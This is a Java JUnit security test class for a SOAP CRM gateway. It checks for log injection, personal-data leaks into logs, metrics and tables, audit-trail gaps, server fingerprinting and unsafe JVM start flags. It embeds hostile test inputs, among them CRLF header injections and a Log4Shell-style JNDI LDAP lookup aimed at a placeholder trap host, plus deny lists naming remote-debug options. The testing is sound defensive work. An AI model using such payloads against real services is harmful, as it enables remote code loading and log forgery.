package org.crmgateway.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.crmgateway.failure.Code;
import org.crmgateway.wire.SoapEnvelope;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What must not be found anywhere but in the records themselves (A-L), and what the process must not open (A-P). */
@ExtendWith(AttackExtension.class)
@Settings("WEB_THREADS=8")
final class LeakTest {
    private static final String ORDER = "/services/order/v1/";

    /** What could break a line, or a screen: in every place of which something might be logged. */
    static Stream<Row> logged() {
        return Stream.of(
                        "%0d%0a2026-01-01 INFO {canary}",
                        "\u2028{canary}", "${jndi:ldap://{trap}/{canary}}", "{}{}{canary}", "%n%s{canary}")
                .flatMap(text -> Stream.of(
                        Row.of(
                                "A-L04",
                                "action " + text,
                                Expected.fault(Code.ACTION_MISMATCH).or(Expected.http(400, "http.malformed")),
                                edge -> Edge.post(
                                        ORDER + "sandbox",
                                        SoapEnvelope.SOAP_11,
                                        edge.fill("Content-Type: text/xml\r\nSOAPAction: \"" + text + "\"\r\n"),
                                        order(edge))),
                        Row.of(
                                "A-L04",
                                "type " + text,
                                Expected.http(415, "http.ctype").or(Expected.http(400, "http.malformed")),
                                edge -> Edge.post(
                                        ORDER + "modern",
                                        SoapEnvelope.SOAP_11,
                                        edge.fill("Content-Type: " + text + "\r\n"),
                                        order(edge))),
                        Row.of(
                                "A-L04",
                                "agent " + text,
                                Expected.sec("sec.none").or(Expected.http(400, "http.malformed")),
                                edge -> Edge.post(
                                        ORDER + "modern",
                                        SoapEnvelope.SOAP_11,
                                        edge.fill("Content-Type: text/xml\r\nUser-Agent: " + text + "\r\nX-Call-Id: "
                                                + text + "\r\n"),
                                        order(edge))),
                        Row.of(
                                "A-L04",
                                "cursor " + text,
                                Expected.fault(Code.SCHEMA_VIOLATION),
                                edge -> Edge.post(
                                        ORDER + "sandbox",
                                        SoapEnvelope.SOAP_11,
                                        "Content-Type: text/xml\r\n",
                                        Payload.utf8(edge.fill(Payload.envelope(Payload.operation(
                                                "o:searchOrders", "<o:cursor>&#10;" + text + "</o:cursor>")))))),
                        Row.of(
                                "A-L04",
                                "currency " + text,
                                Expected.fault(Code.SCHEMA_VIOLATION),
                                edge -> Edge.post(
                                        ORDER + "sandbox",
                                        SoapEnvelope.SOAP_11,
                                        "Content-Type: text/xml\r\n",
                                        Payload.utf8(edge.fill(
                                                Payload.envelope(Payload.order().replace("EUR", text))))))));
    }

    private static byte[] order(Edge edge) {
        return Payload.utf8(edge.fill(Payload.envelope(Payload.order())));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("logged")
    @Attack("A-L04")
    void noMessageWritesALineOfItsOwn(Row row, Attacks attacks) {
        attacks.run(row);
    }

    /** One of each kind of personal data, and each a word that nothing else has. */
    private static final List<String> SEEDED = List.of(
            "Seedname", "seed@canary.example", "+49-555-SEED", "DE89370400440532013000", "Seedstreet", "Seednote");

    @Test
    @Attack({"A-L05", "A-L10"})
    void personalDataIsInRecordsAndChangesOnly(Attacks attacks) throws Exception {
        Talk talk = new Talk(attacks.edge());
        String create = Payload.operation(
                "m:createCustomer",
                "<m:customer>"
                        + "<m:externalId>" + attacks.edge().fill("L-{n}") + "</m:externalId><m:name>Seedname</m:name>"
                        + "<m:kind>PERSON</m:kind><m:email>seed@canary.example</m:email><m:phone>+49-555-SEED</m:phone>"
                        + "<m:taxId>DE89370400440532013000</m:taxId><m:notes>Seednote</m:notes><m:addresses><m:address>"
                        + "<m:addressKey>1</m:addressKey><m:line1>Seedstreet</m:line1></m:address></m:addresses></m:customer>");
        List<TrailWatch.Entry> entries = attacks.watched(() -> {
            assertThat(talk.sandbox("customer", create)).contains("created");
            assertThat(talk.modern("customer", create)).contains("created");
            assertThat(talk.modern("customer", create)).contains("replayed>true");
            assertThat(talk.sandbox("customer", create.replace("PERSON", "Seedkind")))
                    .contains("SCHEMA_VIOLATION");
            assertThat(talk.sandbox("customer", create.replace("<m:email>", "<m:email>@")))
                    .contains("SCHEMA_VIOLATION");
        });

        assertThat(entries).hasSizeGreaterThanOrEqualTo(4);
        String elsewhere = attacks.watchedLog()
                + metrics(attacks)
                + dump(attacks, "audit_entry")
                + dump(attacks, "idempotency_key")
                + dump(attacks, "external_id")
                + dump(attacks, "replay")
                + dump(attacks, "partner");
        assertThat(elsewhere).contains("createCustomer");
        SEEDED.forEach(secret -> assertThat(elsewhere).doesNotContain(secret));
        assertThat(elsewhere).doesNotContain("Seed");
        assertThat(dump(attacks, "change_entry")).contains(SEEDED);
    }

    private static String metrics(Attacks attacks) throws IOException {
        String request = "GET /metrics HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
        return Reply.to(attacks.edge().gateway().gateway().adminPort(), Payload.utf8(request), false)
                .text();
    }

    private static String dump(Attacks attacks, String table) {
        return attacks.edge()
                .gateway()
                .gateway()
                .database()
                .inTransaction(tx -> tx.handle()
                        .createQuery("SELECT * FROM " + table)
                        .mapToMap()
                        .list()
                        .toString());
    }

    @Test
    @Attack("A-L09")
    void withoutATrailNothingIsWritten(Attacks attacks) throws Exception {
        Talk talk = new Talk(attacks.edge());
        int customers = attacks.edge().gateway().count("customer");
        int changes = attacks.edge().gateway().count("change_entry");
        String create = Payload.operation(
                "m:createCustomer", "<m:customer><m:name>Untrailed</m:name><m:kind>PERSON</m:kind></m:customer>");
        execute(attacks, "ALTER TABLE audit_entry RENAME TO audit_away");
        try {
            assertThat(Talk.code(talk.sandbox("customer", create))).isIn("INTERNAL_ERROR", "OVERLOADED");
            assertThat(attacks.edge().gateway().count("customer")).isEqualTo(customers);
            assertThat(attacks.edge().gateway().count("change_entry")).isEqualTo(changes);
            String read = Payload.operation("m:searchCustomers", "");
            assertThat(talk.sandbox("customer", read)).contains("searchCustomersResponse");
        } finally {
            execute(attacks, "ALTER TABLE audit_away RENAME TO audit_entry");
        }
        assertThat(talk.sandbox("customer", create)).contains("created");
    }

    private static void execute(Attacks attacks, String sql) {
        attacks.edge()
                .gateway()
                .gateway()
                .database()
                .inTransaction(tx -> tx.handle().execute(sql));
    }

    @Test
    @Attack("A-L10")
    void everyCommittedChangeHasItsEntry(Attacks attacks) throws Exception {
        Talk talk = new Talk(attacks.edge());
        for (int i = 0; i < 20; i++) {
            talk.sandbox("order", attacks.edge().fill(Payload.order()));
            talk.sandbox("order", attacks.edge().fill(Payload.order()).replace("2026-03-02", "never"));
        }
        int without = attacks.edge()
                .gateway()
                .gateway()
                .database()
                .inTransaction(tx -> tx.handle()
                        .createQuery("SELECT COUNT(*) FROM change_entry c WHERE NOT EXISTS (SELECT 1 FROM audit_entry a"
                                + " WHERE a.tenant = c.tenant AND a.record_id = c.record_id AND a.version = c.version"
                                + " AND a.call_id = c.call_id)")
                        .mapTo(Integer.class)
                        .one());
        assertThat(without).isZero();
        assertThat(attacks.edge().gateway().count("change_entry")).isGreaterThan(20);
    }

    @Test
    @Attack("A-L15")
    void nothingSaysWhatItIsMadeOf(Attacks attacks) throws Exception {
        String told = "";
        for (String path : List.of("/", "/contract/order.html", "/services/order/v1/modern?wsdl", "/nothing")) {
            Reply reply = Reply.to(
                    attacks.edge().port(),
                    Payload.utf8("GET " + path + " HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
                    false);
            told += reply.fields() + reply.text();
        }
        told += new Talk(attacks.edge()).sandbox("order", Payload.HARMLESS);
        assertThat(told.toLowerCase(java.util.Locale.ROOT))
                .doesNotContain(
                        "jetty", "cxf/", "apache cxf", "wss4j", "java/", "x-powered-by", "\nserver:", "[server:");
    }

    @Test
    @Attack({"A-L11", "A-L16", "A-P02", "A-P03"})
    void theStartScriptOpensNothingAndClosesWhatTheJvmLeavesOpen() throws IOException {
        String script = Files.readString(Path.of("crm-gateway"));
        assertThat(script)
                .contains("-XX:+ExitOnOutOfMemoryError", "-Djdk.serialFilter=!* ", "set -f", "umask 077")
                .contains("-Djavax.xml.accessExternalDTD= ", "-Djavax.xml.accessExternalSchema=\"")
                .doesNotContain("jmxremote", "jdwp", "HeapDumpOnOutOfMemoryError", "-Dpassword", "java.rmi");
        assertThat(Files.readString(Path.of("pom.xml"))).contains("<project.build.outputTimestamp>");
    }

    @Test
    @Attack("A-P01")
    void whatIsNotUsedIsNotThere() {
        String path = System.getProperty("java.class.path").toLowerCase(java.util.Locale.ROOT);
        Stream.of(
                        "cxf-rt-databinding-aegis",
                        "cxf-rt-ws-transfer",
                        "cxf-rt-ws-mex",
                        "cxf-rt-ws-eventing",
                        "cxf-rt-transports-jms",
                        "cxf-rt-rs",
                        "cxf-rt-ws-rm",
                        "cxf-services-sts",
                        "cxf-services-xkms",
                        "opensaml",
                        "ehcache",
                        "log4j-core",
                        "xmlunit-legacy")
                .forEach(name -> assertThat(path).doesNotContain("/" + name));
    }
}
